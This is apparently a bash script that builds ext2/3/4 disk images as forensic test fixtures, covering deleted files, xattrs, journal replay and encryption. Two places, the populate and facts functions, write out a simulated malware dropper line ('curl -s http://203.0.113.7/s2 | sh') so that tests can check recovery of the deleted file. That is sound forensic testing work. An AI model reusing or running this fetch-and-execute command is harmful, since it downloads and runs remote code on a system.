#!/usr/bin/env bash
# Makes the ext2/3/4 images the evidence/ext4 tests read, with the real
# tools: mkfs.ext4/mkfs.ext3 (e2fsprogs), a kernel loop mount populated with
# cp -a, tar, mknod, setfattr, setfacl, touch, and debugfs for deletions made
# the way pre-5.19 kernels and e2fsprogs leave them (names in rec_len slack,
# inodes with dtime and their block maps intact).
#
#   make.sh OUTDIR NODE_TARBALL
#
# Run as root. OUTDIR gets one NAME.img per image and NAME.facts with what
# the tests cannot ask the kernel (the content of the deleted files, which
# deletion left what). The test helper caches OUTDIR by this script's hash.
set -euo pipefail

out=${1:?usage: make.sh OUTDIR NODE_TARBALL}
node=${2:?usage: make.sh OUTDIR NODE_TARBALL}
[ "$(id -u)" = 0 ] || { echo "make.sh: must run as root (loop mounts, trusted.* xattrs, devices)" >&2; exit 1; }

need=()
command -v mkfs.ext4 >/dev/null || need+=(e2fsprogs)
command -v setfattr >/dev/null || need+=(attr)
command -v setfacl >/dev/null || need+=(acl)
command -v perl >/dev/null || need+=(perl-base)
if [ "${#need[@]}" -gt 0 ]; then
	apt-get update -qq
	DEBIAN_FRONTEND=noninteractive apt-get install -y -qq "${need[@]}"
fi

mkdir -p "$out"
work=$(mktemp -d)
mnt="$work/mnt"
mkdir -p "$mnt" "$work/src"
cleanup() {
	if mountpoint -q "$mnt"; then
		umount "$mnt" || { sleep 1; umount "$mnt"; } || umount -l "$mnt"
	fi
	rm -rf "$work"
}
trap cleanup EXIT

# The node collection, extracted once with its whiteouts and xattrs.
tar --xattrs --xattrs-include='*' --numeric-owner -xpzf "$node" -C "$work/src"

# pattern LABEL BYTES: deterministic content that says what it is.
pattern() {
	local label=$1 n=$2
	(set +o pipefail; yes "deadnode ext4 fixture: $label" | head -c "$n")
}

# populate DIR FEATURES: the edge cases, written through the kernel.
populate() {
	local d=$1 feats=$2
	cp -a "$work/src/node" "$d/node"

	local e="$d/edge"
	mkdir -p "$e"
	# A directory with thousands of entries: an htree (dir_index) directory.
	mkdir "$e/big"
	(cd "$e/big" && seq -f 'entry-%05g' 1 3000 | xargs touch)
	mkdir "$e/big/sub"
	# Many subdirectories (link counts).
	mkdir "$e/subdirs"
	(cd "$e/subdirs" && seq -f 'd%03g' 1 120 | xargs mkdir)
	# Symlinks: fast (in i_block, < 60 bytes), exactly 59 and 60 bytes, slow.
	ln -s target "$e/link-short"
	ln -s "$(printf 'a%.0s' $(seq 59))" "$e/link-59"
	ln -s "$(printf 'b%.0s' $(seq 60))" "$e/link-60"
	ln -s "/$(printf 'long/%.0s' $(seq 150))end" "$e/link-long"
	ln -s ../node/etc "$e/link-dir"
	# Hard links.
	pattern hardlink 5000 >"$e/hardlink-a"
	ln "$e/hardlink-a" "$e/hardlink-b"
	mkdir "$e/hl-dir"
	ln "$e/hardlink-a" "$e/hl-dir/hardlink-c"
	# Files of assorted sizes.
	: >"$e/empty"
	printf 'x' >"$e/one-byte"
	pattern small 100 >"$e/small"
	pattern block 4096 >"$e/exactly-4k"
	pattern medium 300000 >"$e/medium"
	pattern large 9000000 >"$e/large"
	# A sparse file: data at 0, 1 MiB, 50 MiB and 99 MiB of a 100 MiB file
	# (with 1 KiB blocks the last reaches the triple indirect block).
	truncate -s 100M "$e/sparse"
	for off in 0 1 50 99; do
		pattern "sparse@$off" 3000 | dd of="$e/sparse" bs=1M seek="$off" conv=notrunc status=none
	done
	# A fragmented file: one block written every other block, so that its
	# extent tree needs more than the 4 extents i_block holds.
	for i in $(seq 0 2 400); do
		pattern "frag $i" 1024 | dd of="$e/fragmented" bs=1024 seek="$i" conv=notrunc status=none
	done
	# Preallocated (uninitialized) extents with data written in the middle.
	if [[ $feats == *extent* ]]; then
		fallocate -l 2M "$e/prealloc"
		pattern prealloc 5000 | dd of="$e/prealloc" bs=1 seek=700000 conv=notrunc status=none
		fallocate -l 1M "$e/prealloc-only"
	fi
	# Special files: FIFO, devices (old and new encodings), a socket,
	# an overlay whiteout (char 0:0).
	mkfifo "$e/fifo"
	mknod "$e/null" c 1 3
	mknod "$e/sda1" b 8 1
	mknod "$e/bigdev" c 300 70000
	mknod "$e/whiteout" c 0 0
	perl -MSocket -e 'socket(S, PF_UNIX, SOCK_STREAM, 0) or die $!; bind(S, pack_sockaddr_un($ARGV[0])) or die $!' "$e/socket"
	# Owners beyond 16 bits, set-id and sticky bits.
	pattern owner 10 >"$e/owner"
	chown 100000:200000 "$e/owner"
	chmod 6755 "$e/owner"
	mkdir "$e/sticky"
	chmod 1777 "$e/sticky"
	# Times: nanoseconds, past 2038 (epoch bits), before 1970.
	pattern times 10 >"$e/times-ns"
	touch -d '2023-01-02 03:04:05.123456789 UTC' "$e/times-ns"
	pattern future 10 >"$e/times-2100"
	touch -d '2100-06-07 08:09:10.987654321 UTC' "$e/times-2100"
	pattern past 10 >"$e/times-1960"
	touch -d '1960-01-01 00:00:00.5 UTC' "$e/times-1960"
	touch -h -d '2001-02-03 04:05:06.7 UTC' "$e/link-short"
	# Long names.
	pattern longname 10 >"$e/$(printf 'n%.0s' $(seq 255))"
	# Extended attributes: small (in the inode), large (external block),
	# every namespace, POSIX ACLs, a file capability.
	pattern xattrs 10 >"$e/xattrs"
	setfattr -n user.small -v hello "$e/xattrs"
	setfattr -n trusted.overlay.opaque -v y "$e/xattrs"
	setfattr -n user.empty "$e/xattrs"
	setfattr -n user.bin -v 0x00ff10ee "$e/xattrs"
	pattern bigx 10 >"$e/xattr-block"
	setfattr -n user.big -v "0s$(pattern 'big xattr value' 700 | base64 -w0)" "$e/xattr-block"
	setfattr -n trusted.overlay.origin -v 0x00fb21000100 "$e/xattr-block"
	pattern acl 10 >"$e/acl"
	setfacl -m u:1000:rwx,g:2000:r-x,m::rwx "$e/acl"
	mkdir "$e/acl-dir"
	setfacl -d -m u:1001:rw- "$e/acl-dir"
	setfacl -m u:1002:r-- "$e/acl-dir"
	pattern cap 10 >"$e/capability"
	setfattr -n security.capability -v 0x0100000200100000000000000000000000000000 "$e/capability"
	setfattr -n user.on-dir -v dirvalue "$e/subdirs"
	setfattr -h -n trusted.on-link -v linkvalue "$e/link-short"
	if [[ $feats == *ea_inode* ]]; then
		pattern ea-inode-10k 10 >"$e/ea-inode"
		setfattr -n user.ten-k -v "0s$(pattern 'ea inode value' 10000 | base64 -w0)" "$e/ea-inode"
		setfattr -n user.sixty-four-k -v "0s$(pattern '64k ea inode value' 65536 | base64 -w0)" "$e/ea-inode"
	fi
	# Inline data: tiny files and directories live in the inode.
	if [[ $feats == *inline_data* ]]; then
		mkdir -p "$e/inline/dir" "$e/inline/dir-more"
		pattern inline40 40 >"$e/inline/forty"
		pattern inline100 100 >"$e/inline/hundred"
		printf 'ab' >"$e/inline/two"
		touch "$e/inline/dir/a" "$e/inline/dir/b"
		(cd "$e/inline/dir-more" && touch one two three four five six)
		ln -s "$(printf 'i%.0s' $(seq 80))" "$e/inline/link-80"
	fi
	# Deletion through the kernel: written, synced, removed, synced. Since
	# Linux 5.19 the name is wiped from its directory block and the inode's
	# extent map is cleared; the journal still holds older copies of both.
	mkdir -p "$e/deleted"
	pattern kernel-deleted 300000 >"$e/deleted/kernel-big.bin"
	pattern kept 100 >"$e/deleted/kept.txt"
	# A whole directory removed: its files' names survive only in the
	# journal's copies of the deleted directory's own block.
	mkdir -p "$e/deleted/gone-dir/nested"
	pattern gone-inner 6000 >"$e/deleted/gone-dir/inner.txt"
	pattern gone-nested 2000 >"$e/deleted/gone-dir/nested/deep.txt"
	if [[ $feats == *inline_data* ]]; then
		pattern inline-deleted 40 >"$e/inline/gone-inline"
	fi
	sync
	rm "$e/deleted/kernel-big.bin"
	rm -r "$e/deleted/gone-dir"
	if [[ $feats == *inline_data* ]]; then
		rm "$e/inline/gone-inline"
	fi
	sync
	# Files deleted later with debugfs (see deleted_debugfs). Made after
	# the deletions above, they take some of the freed inode numbers and
	# blocks: the reader must tell the incarnations apart.
	mkdir -p "$e/deleted2"
	pattern a 100 >"$e/deleted2/a.txt"
	pattern dbg-dirent 20000 >"$e/deleted2/dbg-dirent.txt"
	pattern b 100 >"$e/deleted2/b.txt"
	pattern dbg-inode 7000 >"$e/deleted2/dbg-inode.txt"
	pattern z 100 >"$e/deleted2/z.txt"
	sync
	# The dropper, in a container's upper dir, last: nothing allocated
	# after it takes its blocks.
	local x="$d/node/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/6/fs/tmp/.x"
	{ printf '#!/bin/sh\n# dropper: fetched stage 2\ncurl -s http://203.0.113.7/s2 | sh\n'; pattern dropper 9000; } >"$x/dropper"
	chmod 0755 "$x/dropper"
	sync
	rm "$x/dropper"
	sync
}

# deleted_debugfs IMG: deletions as e2fsprogs (and kernels before 5.19)
# make them: dbg-dirent.txt is removed (its entry stays in the slack of
# a.txt's, its inode keeps dtime and extents); dbg-inode.txt is removed and
# its slot then reused by a new, shorter-named entry, so only the inode
# tells of it.
deleted_debugfs() {
	local img=$1
	# Order matters: the new entry goes to the first record with room, b.txt's
	# (holding dbg-inode.txt) while a.txt's has none yet.
	debugfs -w -R 'rm /edge/deleted2/dbg-inode.txt' "$img" >/dev/null
	debugfs -w -R 'ln /edge/deleted2/z.txt /edge/deleted2/relinked' "$img" >/dev/null
	debugfs -w -R 'sif /edge/deleted2/z.txt links_count 2' "$img" >/dev/null
	debugfs -w -R 'rm /edge/deleted2/dbg-dirent.txt' "$img" >/dev/null
}

# facts IMG: what the tests compare that the kernel cannot tell.
facts() {
	local img=$1 f=${1%.img}.facts
	{
		echo "dropper_sha256 $( { printf '#!/bin/sh\n# dropper: fetched stage 2\ncurl -s http://203.0.113.7/s2 | sh\n'; pattern dropper 9000; } | sha256sum | cut -d' ' -f1)"
		echo "kernel_big_sha256 $(pattern kernel-deleted 300000 | sha256sum | cut -d' ' -f1)"
		echo "dbg_dirent_sha256 $(pattern dbg-dirent 20000 | sha256sum | cut -d' ' -f1)"
		echo "dbg_inode_sha256 $(pattern dbg-inode 7000 | sha256sum | cut -d' ' -f1)"
		echo "gone_inner_sha256 $(pattern gone-inner 6000 | sha256sum | cut -d' ' -f1)"
		echo "gone_nested_sha256 $(pattern gone-nested 2000 | sha256sum | cut -d' ' -f1)"
		echo "inline_deleted_sha256 $(pattern inline-deleted 40 | sha256sum | cut -d' ' -f1)"
	} >"$f"
}

# image NAME SIZE MKFS_ARGS...: one image, populated through the kernel.
image() {
	local name=$1 size=$2
	shift 2
	local img="$out/$name.img"
	rm -f "$img"
	truncate -s "$size" "$img"
	"$@" -q -F -U 6e8b6e53-1d6b-4a55-9e4f-0e0e4d0e4f01 -E root_owner=0:0,hash_seed=2f1c8a2e-5d3b-4c7a-8e9f-102030405060 -L "$name" "$img"
	local feats
	feats=$(dumpe2fs -h "$img" 2>/dev/null | sed -n 's/^Filesystem features: *//p')
	mount -o loop "$img" "$mnt"
	populate "$mnt" "$feats"
	umount "$mnt"
	deleted_debugfs "$img"
	facts "$img"
	e2fsck -fn "$img" >"$out/$name.fsck" 2>&1 || true
}

# 4 KiB blocks, ext4 defaults (64bit, metadata_csum, flex_bg, extents,
# huge_file, dir_nlink, extra_isize) plus ea_inode and large_dir.
image ext4-4k 192M mkfs.ext4 -b 4096 -I 256 -O ea_inode,large_dir
# 1 KiB blocks, no 64bit, no metadata_csum (uninit_bg checksums instead),
# inline data.
image ext4-1k 160M mkfs.ext4 -b 1024 -I 256 -O ^64bit,^metadata_csum,uninit_bg,inline_data
# ext3: legacy block maps (direct, indirect, double, triple), 128-byte
# inodes (no nanoseconds, no birth time).
image ext3 160M mkfs.ext3 -b 1024 -I 128
# meta_bg (descriptor blocks spread over the groups) with 64-byte
# descriptors and many small groups.
image ext4-metabg 160M mkfs.ext4 -b 1024 -g 1024 -I 256 -O meta_bg,^resize_inode,64bit,metadata_csum
# A filesystem that needs recovery, as a node's disk is when it died:
# changes made through the kernel on a copy are logged, block for block,
# into the original's journal with debugfs (journal_open/write/close) and
# never checkpointed. A second transaction logs garbage over keep.txt's
# data block and a third revokes it, so that replay must honour revokes.
# A file's data block starts with the jbd2 magic, so its logged copy is
# escaped. The reader must show what the kernel shows after its own replay.
replay_image() {
	local img="$out/ext4-replay.img" changed="$work/changed.img"
	rm -f "$img"
	truncate -s 64M "$img"
	mkfs.ext4 -q -F -b 4096 -U 6e8b6e53-1d6b-4a55-9e4f-0e0e4d0e4f02 -E root_owner=0:0,lazy_itable_init=0 -L ext4-replay "$img"
	mount -o loop "$img" "$mnt"
	mkdir -p "$mnt/dir"
	pattern keep 5000 >"$mnt/keep.txt"
	pattern gone 3000 >"$mnt/dir/gone.txt"
	pattern renamed 100 >"$mnt/dir/old-name"
	umount "$mnt"
	cp --sparse=always "$img" "$changed"
	mount -o loop "$changed" "$mnt"
	pattern replayed 12345 >"$mnt/new.txt"
	setfattr -n user.replayed -v yes "$mnt/new.txt"
	mkdir "$mnt/newdir"
	(cd "$mnt/newdir" && seq -f 'f%03g' 1 50 | xargs touch)
	rm "$mnt/dir/gone.txt"
	mv "$mnt/dir/old-name" "$mnt/dir/new-name"
	{ printf '\xc0\x3b\x39\x98'; pattern escaped 5000; } >"$mnt/escaped.bin"
	touch -d '2022-02-22 22:22:22.222222222 UTC' "$mnt/keep.txt"
	umount "$mnt"
	local jblocks changed_blocks list b
	jblocks=" $(debugfs -R 'blocks <8>' "$img" 2>/dev/null) "
	changed_blocks=$({ cmp -l "$img" "$changed" || true; } | awk '{print int(($1-1)/4096)}' | sort -nu)
	rm -f "$work/blocks"
	list=
	for b in $changed_blocks; do
		[[ $jblocks == *" $b "* ]] && continue
		dd if="$changed" bs=4096 skip="$b" count=1 status=none >>"$work/blocks"
		list="$list${list:+,}$b"
	done
	local keepblk
	keepblk=$(debugfs -R 'blocks /keep.txt' "$img" 2>/dev/null | awk '{print $1}')
	pattern garbage 4096 >"$work/garbage"
	debugfs -w -f - "$img" >/dev/null 2>&1 <<-EOF
		jo
		jw -b $list $work/blocks
		jc
		jo
		jw -b $keepblk $work/garbage
		jc
		jo
		jw -r $keepblk /dev/null
		jc
	EOF
	dumpe2fs -h "$img" 2>/dev/null | grep -q needs_recovery || { echo "replay image does not need recovery" >&2; exit 1; }
	echo "logged_blocks $list" >"$out/ext4-replay.facts"
	echo "revoked_block $keepblk" >>"$out/ext4-replay.facts"
}
replay_image

# fscrypt (v1 policy through e4crypt): an encrypted directory the reader
# must refuse to list, beside plain files it reads as usual.
encrypt_image() {
	local img="$out/ext4-encrypt.img"
	rm -f "$img"
	truncate -s 32M "$img"
	mkfs.ext4 -q -F -b 4096 -O encrypt -U 6e8b6e53-1d6b-4a55-9e4f-0e0e4d0e4f03 -E root_owner=0:0 -L ext4-encrypt "$img"
	mount -o loop "$img" "$mnt"
	mkdir "$mnt/secret"
	echo "deadnode-fixture-passphrase" | e4crypt add_key -S 0x0123456789abcdef "$mnt/secret" >/dev/null
	pattern secret 5000 >"$mnt/secret/file"
	mkdir "$mnt/secret/sub"
	ln -s file "$mnt/secret/link"
	pattern plain 3000 >"$mnt/plain"
	umount "$mnt"
}
encrypt_image
echo "made: $(cd "$out" && ls)"
